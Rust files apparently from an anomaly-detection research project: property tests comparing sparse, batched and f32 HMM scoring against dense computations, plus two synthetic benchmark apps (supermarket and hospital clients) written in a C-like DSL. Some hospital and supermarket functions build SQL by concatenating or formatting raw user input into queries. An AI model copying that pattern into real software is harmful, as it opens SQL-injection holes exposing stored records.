        seed in any::<u64>(), len in 1usize..50, window in 1usize..16,
    ) {
        let mut hmm = Hmm::random(n, m, model_seed);
        hmm.smooth(1e-4);
        let obs = hmm.sample(len, seed);
        let incremental = scan_scores(&hmm, &obs, window);
        let expected: Vec<f64> = if obs.len() <= window {
            vec![log_likelihood(&hmm, &obs)]
        } else {
            (0..=obs.len() - window)
                .map(|s| {
                    log_likelihood(&hmm, &obs[..s + window]) - log_likelihood(&hmm, &obs[..s])
                })
                .collect()
        };
        prop_assert_eq!(incremental.len(), expected.len());
        for (i, (got, want)) in incremental.iter().zip(&expected).enumerate() {
            prop_assert!((got - want).abs() < 1e-9,
                "window {i}: incremental {got} vs full forward recompute {want}");
        }
    }

    /// The sparse CSR kernel scores every sequence within 1e-9 of the dense
    /// forward pass — on smoothed models (background decomposition active)
    /// and unsmoothed random ones (dense-fallback rows active).
    #[test]
    fn sparse_forward_matches_dense(
        hmm in arb_hmm(6, 5), seed in any::<u64>(), len in 1usize..30,
        smooth in any::<bool>(),
    ) {
        let mut hmm = hmm;
        if smooth {
            hmm.smooth(1e-4);
        }
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let obs = hmm.sample(len, seed);
        let dense = log_likelihood(&hmm, &obs);
        let rolling = log_likelihood_sparse(&hmm, &sp, &obs);
        let full = forward_sparse(&hmm, &sp, &obs).log_likelihood;
        prop_assert_eq!(rolling, full, "rolling scorer must be bit-identical to forward_sparse");
        if dense.is_finite() {
            prop_assert!((rolling - dense).abs() < 1e-9,
                "sparse {rolling} vs dense {dense}");
        } else {
            prop_assert_eq!(rolling, f64::NEG_INFINITY);
        }
    }

    /// The sparse Viterbi recursion finds a path of the same log
    /// probability as the dense one.
    #[test]
    fn sparse_viterbi_matches_dense(
        hmm in arb_hmm(5, 4), seed in any::<u64>(), len in 1usize..15,
    ) {
        let mut hmm = hmm;
        hmm.smooth(1e-4);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let obs = hmm.sample(len, seed);
        let (_, dense_lp) = viterbi(&hmm, &obs);
        let (path, sparse_lp) = viterbi_sparse(&hmm, &sp, &obs);
        prop_assert_eq!(path.len(), obs.len());
        prop_assert!((sparse_lp - dense_lp).abs() < 1e-9,
            "sparse viterbi {sparse_lp} vs dense {dense_lp}");
    }

    /// One sparse-kernel re-estimation step lands within 1e-9 of the dense
    /// step, parameter by parameter.
    #[test]
    fn sparse_reestimation_matches_dense(
        n in 2usize..5, model_seed in any::<u64>(), seed in any::<u64>(),
    ) {
        let mut dense_model = Hmm::random(n, 4, model_seed);
        dense_model.smooth(1e-4);
        let mut sparse_model = dense_model.clone();
        let teacher = Hmm::random(3, 4, seed ^ 0xBEEF);
        let data: Vec<Vec<usize>> = (0..12).map(|i| teacher.sample(10, seed ^ i)).collect();
        let dense_cfg = TrainConfig { parallel: false, sparse: false, ..TrainConfig::default() };
        let sparse_cfg = TrainConfig { parallel: false, sparse: true, ..TrainConfig::default() };
        reestimate_with_config(&mut dense_model, &data, None, &dense_cfg);
        reestimate_with_config(&mut sparse_model, &data, None, &sparse_cfg);
        for i in 0..n {
            prop_assert!((dense_model.pi[i] - sparse_model.pi[i]).abs() < 1e-9);
            for j in 0..n {
                prop_assert!((dense_model.a(i, j) - sparse_model.a(i, j)).abs() < 1e-9,
                    "a({i},{j}): dense {} vs sparse {}", dense_model.a(i, j), sparse_model.a(i, j));
            }
            for k in 0..4 {
                prop_assert!((dense_model.b(i, k) - sparse_model.b(i, k)).abs() < 1e-9,
                    "b({i},{k}): dense {} vs sparse {}", dense_model.b(i, k), sparse_model.b(i, k));
            }
        }
    }

    /// Beam pruning's reported error bound is sound: the exact
    /// log-likelihood exceeds the beam score by at most `gap_bound`.
    #[test]
    fn beam_gap_bound_is_sound(
        hmm in arb_hmm(6, 5), seed in any::<u64>(), len in 1usize..25,
        top_k in 1usize..4,
    ) {
        let mut hmm = hmm;
        hmm.smooth(1e-4);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let obs = hmm.sample(len, seed);
        let exact = log_likelihood(&hmm, &obs);
        let beam = BeamConfig { top_k: Some(top_k), mass_epsilon: 0.0 };
        let run = forward_beam(&hmm, &sp, &obs, &beam);
        let approx = run.pass.log_likelihood;
        prop_assert!(approx <= exact + 1e-9,
            "beam score {approx} exceeds exact {exact}");
        if run.gap_bound.is_finite() {
            let gap = exact - approx;
            prop_assert!(gap <= run.gap_bound + 1e-9,
                "observed gap {gap} exceeds reported bound {}", run.gap_bound);
        }
    }

    /// Parallel Baum–Welch training is bit-identical to serial training —
    /// same model, same report, however the traces are batched.
    #[test]
    fn parallel_training_is_bit_identical(
        n in 2usize..5, model_seed in any::<u64>(), seed in any::<u64>(),
        n_seqs in 1usize..40,
    ) {
        let init = {
            let mut h = Hmm::random(n, 4, model_seed);
            h.smooth(1e-4);
            h
        };
        let teacher = Hmm::random(3, 4, seed ^ 0xACE);
        let data: Vec<Vec<usize>> = (0..n_seqs as u64).map(|i| teacher.sample(8, seed ^ i)).collect();
        let holdout: Vec<Vec<usize>> = (0..4u64).map(|i| teacher.sample(8, seed ^ (100 + i))).collect();
        let mut serial_model = init.clone();
        let mut parallel_model = init;
        let serial_cfg = TrainConfig { max_iterations: 3, parallel: false, ..TrainConfig::default() };
        let parallel_cfg = TrainConfig { max_iterations: 3, parallel: true, ..TrainConfig::default() };
        let serial_report = train(&mut serial_model, &data, &holdout, &serial_cfg);
        let parallel_report = train(&mut parallel_model, &data, &holdout, &parallel_cfg);
        prop_assert_eq!(serial_report.iterations, parallel_report.iterations);
        prop_assert!(serial_model == parallel_model,
            "parallel E-step diverged from serial");
    }
}

/// True when the window start has passed the re-anchor point, i.e. the
/// ring no longer holds any pre-anchor contribution.
fn sliding_window_covers_anchor(anchor: usize, start: usize) -> bool {
    start >= anchor
}
