//! Property tests for the batched scoring kernels and the f32 fast path:
//! batch scores must be bit-identical to the scalar sparse kernel at any
//! batch width, and the f32↔f64 raw-score gap must stay far inside the
//! guard band that triggers f64 rescoring.

use adprom_hmm::{
    log_likelihood_sparse, score_windows_batch, F32Kernel, Hmm, Precision, SparseConfig,
    SparseTransitions,
};
use proptest::prelude::*;

/// An arbitrary small stochastic model.
fn arb_hmm(max_n: usize, max_m: usize) -> impl Strategy<Value = Hmm> {
    (1..=max_n, 1..=max_m, any::<u64>()).prop_map(|(n, m, seed)| Hmm::random(n, m, seed))
}

/// Case count: `PROPTEST_CASES` when set (CI runs this suite at 512),
/// else the local default.
fn cases(default: u32) -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// `count` same-length windows sampled from the model.
fn sample_windows(hmm: &Hmm, count: usize, len: usize, seed: u64) -> Vec<Vec<usize>> {
    (0..count as u64)
        .map(|i| hmm.sample(len, seed ^ (0x9E37_79B9 ^ i.wrapping_mul(0x85EB_CA6B))))
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(cases(64)))]

    /// The batched f64 kernel is bit-identical (`==`, not approximately)
    /// to the scalar rolling sparse scorer in every lane, at every batch
    /// width — including widths past the 32-lane split and models with
    /// structural zeros where lanes die to −∞.
    #[test]
    fn batch_f64_bit_identical_to_scalar(
        hmm in arb_hmm(6, 5), seed in any::<u64>(), len in 1usize..24,
        count in 1usize..40, smooth in any::<bool>(),
    ) {
        let mut hmm = hmm;
        if smooth {
            hmm.smooth(1e-4);
        }
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let windows = sample_windows(&hmm, count, len, seed);
        let lanes: Vec<&[usize]> = windows.iter().map(Vec::as_slice).collect();
        let batch = score_windows_batch(&hmm, &sp, &lanes, false);
        prop_assert_eq!(batch.scores.len(), count);
        for (lane, w) in windows.iter().enumerate() {
            let scalar = log_likelihood_sparse(&hmm, &sp, w);
            prop_assert!(
                batch.scores[lane] == scalar
                    || (batch.scores[lane].is_nan() && scalar.is_nan()),
                "lane {lane}: batch {} vs scalar {scalar}", batch.scores[lane]
            );
        }
    }

    /// Batch width never changes a score: scoring the same windows one at
    /// a time, in pairs, or all at once yields bit-identical results —
    /// the lane-local recursion makes batching purely a cache-reuse
    /// optimization, for the f64 and the f32 kernel alike.
    #[test]
    fn batch_width_is_score_invariant(
        hmm in arb_hmm(6, 5), seed in any::<u64>(), len in 1usize..20,
        count in 2usize..24, split in 1usize..8,
    ) {
        let mut hmm = hmm;
        hmm.smooth(1e-4);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let fk = F32Kernel::from_sparse(&hmm, &sp);
        let windows = sample_windows(&hmm, count, len, seed);
        let lanes: Vec<&[usize]> = windows.iter().map(Vec::as_slice).collect();

        let all64 = score_windows_batch(&hmm, &sp, &lanes, false).scores;
        let all32 = fk.score_windows_batch(&lanes, false).scores;
        let mut chunked64 = Vec::new();
        let mut chunked32 = Vec::new();
        for chunk in lanes.chunks(split) {
            chunked64.extend(score_windows_batch(&hmm, &sp, chunk, false).scores);
            chunked32.extend(fk.score_windows_batch(chunk, false).scores);
        }
        for lane in 0..count {
            prop_assert!(all64[lane] == chunked64[lane],
                "f64 lane {lane}: width {count} gave {} vs width {split} {}",
                all64[lane], chunked64[lane]);
            prop_assert!(all32[lane] == chunked32[lane],
                "f32 lane {lane}: width {count} gave {} vs width {split} {}",
                all32[lane], chunked32[lane]);
        }
    }

    /// Per-step factor traces from the batch kernel match the scalar
    /// scorer's totals: each lane's steps sum to its score.
    #[test]
    fn batch_steps_sum_to_scores(
        hmm in arb_hmm(5, 4), seed in any::<u64>(), len in 1usize..16,
        count in 1usize..10,
    ) {
        let mut hmm = hmm;
        hmm.smooth(1e-4);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let windows = sample_windows(&hmm, count, len, seed);
        let lanes: Vec<&[usize]> = windows.iter().map(Vec::as_slice).collect();
        let batch = score_windows_batch(&hmm, &sp, &lanes, true);
        let steps = batch.steps.expect("want_steps = true");
        for (lane, lane_steps) in steps.iter().enumerate() {
            prop_assert_eq!(lane_steps.len(), len);
            let total: f64 = lane_steps.iter().sum();
            prop_assert!((total - batch.scores[lane]).abs() < 1e-9,
                "lane {lane}: steps sum {total} vs score {}", batch.scores[lane]);
        }
    }

    /// The tolerance bound that justifies the default guard band: on
    /// smoothed models the f32 kernel's raw score stays within a small
    /// per-step error of the f64 score — orders of magnitude inside the
    /// 0.25-nat guard band, so a window can only be misranked by f32 when
    /// it already sits inside the band that forces an f64 rescore.
    #[test]
    fn f32_score_gap_is_bounded(
        hmm in arb_hmm(8, 6), seed in any::<u64>(), len in 1usize..40,
        count in 1usize..12,
    ) {
        let mut hmm = hmm;
        hmm.smooth(1e-4);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let fk = F32Kernel::from_sparse(&hmm, &sp);
        let windows = sample_windows(&hmm, count, len, seed);
        let lanes: Vec<&[usize]> = windows.iter().map(Vec::as_slice).collect();
        let exact = score_windows_batch(&hmm, &sp, &lanes, false).scores;
        let fast = fk.score_windows_batch(&lanes, false).scores;
        // Worst case per settled step: the ~1-ulp polynomial ln plus f32
        // accumulation noise across the α vector. 1e-4 nats/step is a
        // loose envelope; observed gaps sit near 1e-6.
        let bound = 1e-4 * len as f64;
        for lane in 0..count {
            prop_assert!(exact[lane].is_finite(), "smoothed model scored -inf");
            let gap = (fast[lane] - exact[lane]).abs();
            prop_assert!(gap <= bound,
                "lane {lane}: |f32 - f64| = {gap} exceeds {bound} (f32 {} vs f64 {})",
                fast[lane], exact[lane]);
            prop_assert!(gap < Precision::DEFAULT_GUARD_BAND / 100.0,
                "lane {lane}: gap {gap} is not safely inside the guard band");
        }
    }
}
