//! `App_s` — the supermarket management system (CA-dataset, Table III).
//! MySQL-flavoured. Covers inventory browsing, pricing, sales with
//! receipts, restocking, low-stock alerts and revenue summaries.

use crate::workload::{TestCase, Workload};
use adprom_db::Database;
use adprom_lang::parse_program;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// The application source (DSL).
pub const SOURCE: &str = r##"
fn main() {
    let conn = mysql_init(0);
    mysql_real_connect(conn, "supermarket");
    let running = 1;
    while (running) {
        menu();
        let choice = atoi(scanf());
        if (choice == 1) {
            browse(conn);
        } else if (choice == 2) {
            price_check(conn);
        } else if (choice == 3) {
            sell(conn);
        } else if (choice == 4) {
            restock(conn);
        } else if (choice == 5) {
            low_stock(conn);
        } else if (choice == 6) {
            revenue(conn);
        } else if (choice == 7) {
            price_update(conn);
        } else if (choice == 8) {
            category_report(conn);
        } else if (choice == 9) {
            inventory_audit(conn);
        } else if (choice == 10) {
            best_sellers(conn);
        } else if (choice == 11) {
            price_labels(conn);
        } else if (choice == 12) {
            margin_report(conn);
        } else if (choice == 13) {
            shelf_report(conn);
        } else if (choice == 14) {
            reorder_list(conn);
        } else {
            puts("closing register");
            running = 0;
        }
    }
    mysql_close(conn);
}

fn menu() {
    puts("*** supermarket ***");
    puts("1) browse  2) price  3) sell  4) restock");
    puts("5) low stock  6) revenue  7) reprice  8) category report");
    puts("9) audit  10) best sellers  11) labels  12) margins  13) shelf  14) reorder  0) quit");
}

fn browse(conn) {
    mysql_query(conn, "SELECT sku, name, price FROM items ORDER BY sku");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    while (row != null) {
        printf("[%s] %s $%s\n", row[0], row[1], row[2]);
        row = mysql_fetch_row(result);
    }
    mysql_free_result(result);
}

fn price_check(conn) {
    let sku = scanf();
    mysql_stmt_prepare(conn, "SELECT name, price FROM items WHERE sku = ?");
    mysql_stmt_execute(conn, sku);
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    if (row == null) {
        puts("unknown sku");
    } else {
        printf("%s costs %s\n", row[0], row[1]);
    }
    mysql_free_result(result);
}

fn sell(conn) {
    let sku = scanf();
    let qty = scanf();
    mysql_stmt_prepare(conn, "SELECT name, price, stock FROM items WHERE sku = ?");
    mysql_stmt_execute(conn, sku);
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    mysql_free_result(result);
    if (row == null) {
        puts("unknown sku");
        return;
    }
    let stock = atoi(row[2]);
    let wanted = atoi(qty);
    if (stock < wanted) {
        printf("only %d left\n", stock);
        return;
    }
    mysql_stmt_prepare(conn, "UPDATE items SET stock = stock - ? WHERE sku = ?");
    mysql_stmt_execute(conn, qty, sku);
    let total = atof(row[1]) * wanted;
    receipt(row[0], qty, total);
    record_sale(conn, sku, qty, total);
}

fn receipt(name, qty, total) {
    let f = fopen("receipt.txt", "a");
    fprintf(f, "%s x%s = %f\n", name, qty, total);
    fclose(f);
    printf("sold %s x%s\n", name, qty);
}

fn record_sale(conn, sku, qty, total) {
    let q = "";
    sprintf(q, "INSERT INTO sales (sku, qty, total) VALUES (%s, %s, %f)", sku, qty, total);
    mysql_query(conn, q);
}

fn restock(conn) {
    let sku = scanf();
    let qty = scanf();
    mysql_stmt_prepare(conn, "UPDATE items SET stock = stock + ? WHERE sku = ?");
    mysql_stmt_execute(conn, qty, sku);
    printf("restocked %s by %s\n", sku, qty);
}

fn low_stock(conn) {
    mysql_query(conn, "SELECT sku, name, stock FROM items WHERE stock < 10 ORDER BY stock");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    let count = 0;
    while (row != null) {
        printf("LOW: %s (%s left)\n", row[1], row[2]);
        count = count + 1;
        row = mysql_fetch_row(result);
    }
    mysql_free_result(result);
    if (count == 0) {
        puts("stock levels healthy");
    }
}

fn revenue(conn) {
    mysql_query(conn, "SELECT SUM(total), COUNT(*) FROM sales");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    printf("revenue %s over %s sales\n", row[0], row[1]);
    mysql_free_result(result);
}

fn price_update(conn) {
    let sku = scanf();
    let price = scanf();
    mysql_stmt_prepare(conn, "UPDATE items SET price = ? WHERE sku = ?");
    mysql_stmt_execute(conn, price, sku);
    puts("price updated");
}

fn category_report(conn) {
    mysql_query(conn, "SELECT name, price, stock FROM items WHERE price > 5 ORDER BY price DESC");
    let result = mysql_store_result(conn);
    let f = fopen("category.txt", "w");
    let row = mysql_fetch_row(result);
    while (row != null) {
        fprintf(f, "%s,%s,%s\n", row[0], row[1], row[2]);
        row = mysql_fetch_row(result);
    }
    fclose(f);
    mysql_free_result(result);
    puts("category report done");
}

fn inventory_audit(conn) {
    mysql_query(conn, "SELECT sku, name, price, stock FROM items ORDER BY sku");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    let units = 0;
    let value = 0.0;
    while (row != null) {
        printf("sku %s\n", row[0]);
        printf("  name  %s\n", row[1]);
        printf("  price %s\n", row[2]);
        printf("  stock %s\n", row[3]);
        units = units + atoi(row[3]);
        value = value + atof(row[2]) * atoi(row[3]);
        row = mysql_fetch_row(result);
    }
    mysql_free_result(result);
    printf("total units %d\n", units);
    printf("stock value %f\n", value);
}

fn best_sellers(conn) {
    mysql_query(conn, "SELECT sku, qty, total FROM sales ORDER BY total DESC LIMIT 3");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    let rank = 1;
    while (row != null) {
        printf("#%d sku=%s\n", rank, row[0]);
        printf("   qty=%s revenue=%s\n", row[1], row[2]);
        rank = rank + 1;
        row = mysql_fetch_row(result);
    }
    mysql_free_result(result);
    if (rank == 1) {
        puts("no sales yet");
    }
}

fn price_labels(conn) {
    let f = fopen("labels.txt", "w");
    mysql_query(conn, "SELECT name, price FROM items ORDER BY name");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    while (row != null) {
        fprintf(f, "== %s ==\n", row[0]);
        fprintf(f, "   $%s\n", row[1]);
        if (atof(row[1]) > 10) {
            fprintf(f, "   PREMIUM\n");
        } else {
            fprintf(f, "   EVERYDAY\n");
        }
        row = mysql_fetch_row(result);
    }
    mysql_free_result(result);
    fclose(f);
    puts("labels printed");
}

fn margin_report(conn) {
    mysql_query(conn, "SELECT AVG(price), MIN(price), MAX(price) FROM items");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    mysql_free_result(result);
    printf("avg price %s\n", row[0]);
    printf("min price %s\n", row[1]);
    printf("max price %s\n", row[2]);
    let spread = atof(row[2]) - atof(row[1]);
    printf("spread    %f\n", spread);
}

fn shelf_report(conn) {
    let f = fopen("shelf.txt", "w");
    mysql_query(conn, "SELECT sku, name, stock FROM items WHERE stock > 0 ORDER BY stock DESC");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    let shelf = 1;
    while (row != null) {
        fprintf(f, "shelf %d: %s\n", shelf, row[1]);
        fprintf(f, "  facings %s\n", row[2]);
        if (atoi(row[2]) > 30) {
            fprintf(f, "  overstocked: %s\n", row[0]);
        }
        shelf = shelf + 1;
        row = mysql_fetch_row(result);
    }
    mysql_free_result(result);
    fclose(f);
    printf("%d shelves planned\n", shelf - 1);
}

fn reorder_list(conn) {
    mysql_query(conn, "SELECT sku, name, stock FROM items WHERE stock < 15 ORDER BY stock");
    let result = mysql_store_result(conn);
    let row = mysql_fetch_row(result);
    while (row != null) {
        printf("reorder %s\n", row[1]);
        printf("  sku %s current %s\n", row[0], row[2]);
        row = mysql_fetch_row(result);
    }
    mysql_free_result(result);
    puts("reorder list done");
}
"##;

/// Seeds the supermarket database.
pub fn make_db() -> Database {
    let mut db = Database::new("supermarket");
    db.execute("CREATE TABLE items (sku INT, name TEXT, price FLOAT, stock INT)")
        .expect("schema");
    db.execute("CREATE TABLE sales (sku INT, qty INT, total FLOAT)")
        .expect("schema");
    let products = [
        ("rice", 3.5, 40),
        ("beans", 2.2, 8),
        ("milk", 1.8, 25),
        ("bread", 2.0, 12),
        ("cheese", 7.5, 6),
        ("coffee", 11.0, 30),
        ("tea", 6.0, 18),
        ("sugar", 1.5, 50),
        ("olive oil", 14.0, 5),
        ("pasta", 2.8, 33),
    ];
    for (i, (name, price, stock)) in products.iter().enumerate() {
        db.execute(&format!(
            "INSERT INTO items VALUES ({}, '{name}', {price}, {stock})",
            500 + i as i64
        ))
        .expect("seed");
    }
    db.execute("INSERT INTO sales VALUES (500, 2, 7.0)")
        .expect("seed");
    db
}

/// Generates the test-case suite (Table III: 36 cases for App_s).
pub fn test_cases(count: usize, seed: u64) -> Vec<TestCase> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut cases = Vec::with_capacity(count);
    for c in 0..count {
        let mut inputs = Vec::new();
        for _ in 0..rng.gen_range(1..=5) {
            let choice = rng.gen_range(1..=14u32);
            inputs.push(choice.to_string());
            match choice {
                2 => inputs.push((500 + rng.gen_range(0..10)).to_string()),
                3 | 4 => {
                    inputs.push((500 + rng.gen_range(0..10)).to_string());
                    inputs.push(rng.gen_range(1..6).to_string());
                }
                7 => {
                    inputs.push((500 + rng.gen_range(0..10)).to_string());
                    inputs.push(format!("{}.5", rng.gen_range(1..20)));
                }
                _ => {}
            }
        }
        inputs.push("0".to_string());
        cases.push(TestCase::new(format!("s{c:03}"), inputs));
    }
    cases
}

/// Builds the full App_s workload.
pub fn workload(case_count: usize, seed: u64) -> Workload {
    Workload {
        name: "App_s".into(),
        dbms: "MySQL",
        program: parse_program(SOURCE).expect("App_s source parses"),
        make_db,
        test_cases: test_cases(case_count, seed),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::validate;
    use std::collections::HashMap;

    #[test]
    fn source_parses_and_validates() {
        let prog = parse_program(SOURCE).unwrap();
        assert!(validate(&prog).is_empty(), "{:?}", validate(&prog));
    }

    #[test]
    fn selling_depletes_stock_and_writes_receipt() {
        let w = workload(0, 0);
        let case = TestCase::new(
            "sale",
            vec![
                "3".into(),
                "504".into(), // cheese, stock 6
                "2".into(),
                "0".into(),
            ],
        );
        let trace = w.run_case(&case, &HashMap::new());
        assert!(trace.iter().any(|e| &*e.name == "fprintf"));
    }

    #[test]
    fn runs_all_test_cases() {
        let w = workload(8, 3);
        let traces = w.collect_traces(&HashMap::new());
        assert_eq!(traces.len(), 8);
    }
}
