//! `App_h` — the mini hospital client application (CA-dataset, Table III).
//! PostgreSQL-flavoured: talks to the DB through the libpq surface.
//!
//! A menu-driven client: list patients, look one up, admit/discharge,
//! billing report (written to a file — a legitimate labeled output), and
//! ward statistics. Query results flow to `printf`/`fprintf` sites that the
//! DDG labels, giving the app its DB-dependent behaviour profile.

use crate::workload::{TestCase, Workload};
use adprom_db::Database;
use adprom_lang::parse_program;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// The application source (DSL).
pub const SOURCE: &str = r##"
fn main() {
    let conn = PQconnectdb("hospital");
    let running = 1;
    while (running) {
        print_menu();
        let choice = atoi(scanf());
        if (choice == 1) {
            list_patients(conn);
        } else if (choice == 2) {
            let pid = scanf();
            find_patient(conn, pid);
        } else if (choice == 3) {
            let pid = scanf();
            let ward = scanf();
            admit_patient(conn, pid, ward);
        } else if (choice == 4) {
            let pid = scanf();
            discharge_patient(conn, pid);
        } else if (choice == 5) {
            billing_report(conn);
        } else if (choice == 6) {
            ward_statistics(conn);
        } else if (choice == 7) {
            let name = scanf();
            let age = scanf();
            register_patient(conn, name, age);
        } else if (choice == 8) {
            let pid = scanf();
            patient_chart(conn, pid);
        } else if (choice == 9) {
            discharge_summary(conn);
        } else {
            puts("Goodbye.");
            running = 0;
        }
    }
    PQfinish(conn);
}

fn print_menu() {
    puts("--- Hospital Client ---");
    puts("1) List patients");
    puts("2) Find patient");
    puts("3) Admit patient");
    puts("4) Discharge patient");
    puts("5) Billing report");
    puts("6) Ward statistics");
    puts("7) Register patient");
    puts("8) Patient chart");
    puts("9) Discharge summary");
    puts("0) Quit");
}

fn list_patients(conn) {
    let r = PQexec(conn, "SELECT id, name, age FROM patients ORDER BY id");
    let n = PQntuples(r);
    printf("%d patients\n", n);
    for (let i = 0; i < n; i = i + 1) {
        let id = PQgetvalue(r, i, 0);
        let name = PQgetvalue(r, i, 1);
        printf("#%s %s\n", id, name);
    }
    PQclear(r);
}

fn find_patient(conn, pid) {
    PQprepare(conn, "by_id", "SELECT name, age, ward FROM patients WHERE id = $1");
    let r = PQexecPrepared(conn, "by_id", pid);
    let n = PQntuples(r);
    if (n == 0) {
        puts("No such patient.");
    } else {
        let name = PQgetvalue(r, 0, 0);
        let age = PQgetvalue(r, 0, 1);
        let ward = PQgetvalue(r, 0, 2);
        printf("name=%s age=%s ward=%s\n", name, age, ward);
    }
    PQclear(r);
}

fn admit_patient(conn, pid, ward) {
    let q = "UPDATE patients SET ward = '";
    strcat(q, ward);
    strcat(q, "' WHERE id = ");
    strcat(q, pid);
    let r = PQexec(conn, q);
    PQclear(r);
    let check = PQexec(conn, "SELECT COUNT(*) FROM patients WHERE ward != 'none'");
    let admitted = PQgetvalue(check, 0, 0);
    printf("admitted now: %s\n", admitted);
    PQclear(check);
}

fn discharge_patient(conn, pid) {
    let q = "UPDATE patients SET ward = 'none' WHERE id = ";
    strcat(q, pid);
    let r = PQexec(conn, q);
    PQclear(r);
    puts("Discharged.");
}

fn billing_report(conn) {
    let f = fopen("billing.txt", "w");
    let r = PQexec(conn, "SELECT id, name, balance FROM patients WHERE balance > 0 ORDER BY balance DESC");
    let n = PQntuples(r);
    fprintf(f, "outstanding balances: %d\n", n);
    for (let i = 0; i < n; i = i + 1) {
        let name = PQgetvalue(r, i, 1);
        let balance = PQgetvalue(r, i, 2);
        fprintf(f, "%s owes %s\n", name, balance);
    }
    PQclear(r);
    fclose(f);
    puts("Report written.");
}

fn ward_statistics(conn) {
    let total = PQexec(conn, "SELECT COUNT(*) FROM patients");
    let all = PQgetvalue(total, 0, 0);
    PQclear(total);
    let icu = PQexec(conn, "SELECT COUNT(*) FROM patients WHERE ward = 'icu'");
    let in_icu = PQgetvalue(icu, 0, 0);
    PQclear(icu);
    let pct = atoi(in_icu) * 100 / atoi(all);
    if (pct > 50) {
        printf("ICU load high: %d%%\n", pct);
    } else {
        printf("ICU load normal: %d%%\n", pct);
    }
    let avg = PQexec(conn, "SELECT AVG(age) FROM patients WHERE ward != 'none'");
    printf("mean admitted age: %s\n", PQgetvalue(avg, 0, 0));
    PQclear(avg);
}

fn register_patient(conn, name, age) {
    let q = "INSERT INTO patients (id, name, age, ward, balance) VALUES (";
    let id = rand() % 9000 + 1000;
    sprintf(q, "INSERT INTO patients (id, name, age, ward, balance) VALUES (%d, '%s', %s, 'none', 0)", id, name, age);
    let r = PQexec(conn, q);
    PQclear(r);
    printf("registered %s as #%d\n", name, id);
}

fn patient_chart(conn, pid) {
    PQprepare(conn, "chart", "SELECT name, age, ward, balance FROM patients WHERE id = $1");
    let r = PQexecPrepared(conn, "chart", pid);
    if (PQntuples(r) == 0) {
        puts("no chart");
        PQclear(r);
        return;
    }
    let name = PQgetvalue(r, 0, 0);
    let age = PQgetvalue(r, 0, 1);
    let ward = PQgetvalue(r, 0, 2);
    let balance = PQgetvalue(r, 0, 3);
    printf("PATIENT  %s\n", name);
    printf("AGE      %s\n", age);
    printf("WARD     %s\n", ward);
    printf("BALANCE  %s\n", balance);
    if (atoi(age) > 65) {
        printf("NOTE: geriatric protocol for %s\n", name);
    }
    PQclear(r);
}

fn discharge_summary(conn) {
    let f = fopen("discharges.txt", "w");
    let r = PQexec(conn, "SELECT name, age, ward FROM patients WHERE ward = 'recovery' ORDER BY name");
    let n = PQntuples(r);
    fprintf(f, "%d in recovery\n", n);
    for (let i = 0; i < n; i = i + 1) {
        let name = PQgetvalue(r, i, 0);
        let age = PQgetvalue(r, i, 1);
        fprintf(f, "ready: %s\n", name);
        if (atoi(age) > 70) {
            fprintf(f, "  follow-up visit for %s\n", name);
        }
    }
    PQclear(r);
    fclose(f);
    puts("summary written");
}
"##;

/// Seeds the hospital database.
pub fn make_db() -> Database {
    let mut db = Database::new("hospital");
    db.execute("CREATE TABLE patients (id INT, name TEXT, age INT, ward TEXT, balance FLOAT)")
        .expect("schema");
    let names = [
        "ada", "grace", "alan", "edsger", "barbara", "donald", "john", "leslie", "tony", "dennis",
        "ken", "bjarne", "guido", "james", "brendan", "linus",
    ];
    let wards = ["none", "icu", "surgery", "recovery"];
    for (i, name) in names.iter().enumerate() {
        let id = 100 + i as i64;
        let age = 25 + ((i * 7) % 50) as i64;
        let ward = wards[i % wards.len()];
        let balance = ((i * 137) % 900) as f64;
        db.execute(&format!(
            "INSERT INTO patients VALUES ({id}, '{name}', {age}, '{ward}', {balance})"
        ))
        .expect("seed row");
    }
    db
}

/// Generates the test-case suite (Table III: 63 cases for App_h).
pub fn test_cases(count: usize, seed: u64) -> Vec<TestCase> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut cases = Vec::with_capacity(count);
    for c in 0..count {
        let mut inputs: Vec<String> = Vec::new();
        let actions = rng.gen_range(1..=6);
        for _ in 0..actions {
            let choice = rng.gen_range(1..=9u32);
            inputs.push(choice.to_string());
            match choice {
                2 | 8 => inputs.push((100 + rng.gen_range(0..20)).to_string()),
                3 => {
                    inputs.push((100 + rng.gen_range(0..16)).to_string());
                    inputs.push(["icu", "surgery", "recovery"][rng.gen_range(0..3)].to_string());
                }
                4 => inputs.push((100 + rng.gen_range(0..16)).to_string()),
                7 => {
                    inputs.push(format!("newpatient{c}"));
                    inputs.push(rng.gen_range(18..90).to_string());
                }
                _ => {}
            }
        }
        inputs.push("0".to_string());
        cases.push(TestCase::new(format!("h{c:03}"), inputs));
    }
    cases
}

/// Builds the full App_h workload.
pub fn workload(case_count: usize, seed: u64) -> Workload {
    Workload {
        name: "App_h".into(),
        dbms: "PostgreSQL",
        program: parse_program(SOURCE).expect("App_h source parses"),
        make_db,
        test_cases: test_cases(case_count, seed),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_analysis::analyze;
